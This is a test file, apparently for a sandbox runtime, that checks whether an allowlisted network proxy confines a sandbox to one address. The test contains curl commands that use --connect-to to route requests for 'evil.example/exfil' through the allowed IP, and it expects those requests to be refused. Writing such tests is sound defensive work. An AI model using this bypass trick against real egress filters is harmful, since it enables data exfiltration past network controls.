import { execFileSync } from 'node:child_process';
import { once } from 'node:events';
import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { createServer } from 'node:http';
import { createServer as createHttpsServer } from 'node:https';
import { connect, type AddressInfo, type Server } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createLocalDriver } from '@tendon/runtime';
import { createTestSandboxes, executorFolder, never, run, type TestSandboxes } from '@tendon/runtime/testing';

const LISTED = '93.184.216.34';
const CERTIFICATE = ['req', '-x509', '-newkey', 'ec', '-pkeyopt', 'ec_paramgen_curve:P-256', '-nodes', '-subj', '/CN=x'];

async function listening(server: Server): Promise<number> {
  await once(server.listen(0, '127.0.0.1'), 'listening');
  return (server.address() as AddressInfo).port;
}

/** A sandbox behind a proxy of the host that sends every address to sites of this machine. */
describe('a sandbox behind a proxy of its host', () => {
  const asked: string[] = [];
  const servers: Server[] = [];
  let sandboxes: TestSandboxes;

  beforeAll(async () => {
    const folder = mkdtempSync(join(tmpdir(), 'tendon-certificate-'));
    const [key, cert] = [join(folder, 'key'), join(folder, 'cert')];
    execFileSync('openssl', [...CERTIFICATE, '-keyout', key, '-out', cert], { stdio: 'ignore' });
    const plain = createServer((request, response) => response.end(`plain ${request.headers.host}`));
    const tls = createHttpsServer({ key: readFileSync(key), cert: readFileSync(cert) }, (request, response) =>
      response.end(`tls ${request.headers.host}`),
    );
    rmSync(folder, { recursive: true });
    const ports: Readonly<Record<string, number>> = { 80: await listening(plain), 443: await listening(tls) };
    const upstream = createServer().on('connect', (request, client) => {
      asked.push(request.url!);
      const socket = connect(ports[request.url!.split(':')[1]!]!, '127.0.0.1', () => {
        client.write('HTTP/1.1 200 OK\r\n\r\n');
        client.pipe(socket).pipe(client);
      });
      for (const end of [client, socket]) end.on('error', () => {});
    });
    servers.push(plain, tls, upstream);
    sandboxes = createTestSandboxes(createLocalDriver({ executor: executorFolder() }), {
      upstreamProxy: { url: new URL(`http://127.0.0.1:${await listening(upstream)}`) },
      networkOf: async () => ({ mode: 'allowlist', allow: [LISTED], allowPrivate: [] }),
    });
  });
  afterAll(async () => {
    await sandboxes?.close();
    for (const server of servers) server.close();
  });

  it('SB28, SB355, SB356: reaches what is listed, by plain HTTP too, and nothing else over the same connection', async () => {
    const runtime = await sandboxes.runtimes.acquire('upstream', { signal: never });
    const curl = async (options: string) => (await run(runtime, `curl -ksS -m 20 ${options} 2>&1`)).output;
    expect(await curl(`http://${LISTED}/`)).toBe(`plain ${LISTED}`);
    expect(await curl(`https://${LISTED}/`)).toBe(`tls ${LISTED}`);
    expect(await curl(`--connect-to evil.example:443:${LISTED}:443 https://evil.example/exfil`)).toMatch(/unrecognized name|alert/);
    expect(await curl(`-p --connect-to evil.example:80:${LISTED}:80 http://evil.example/exfil`)).toMatch(/must be for 93.184.216.34/);
    expect(new Set(asked)).toEqual(new Set([`${LISTED}:80`, `${LISTED}:443`]));
    expect((await sandboxes.runtimes.refusedHosts('upstream')).map(({ reason }) => reason).join()).toMatch(/names evil.example/);
  });
});
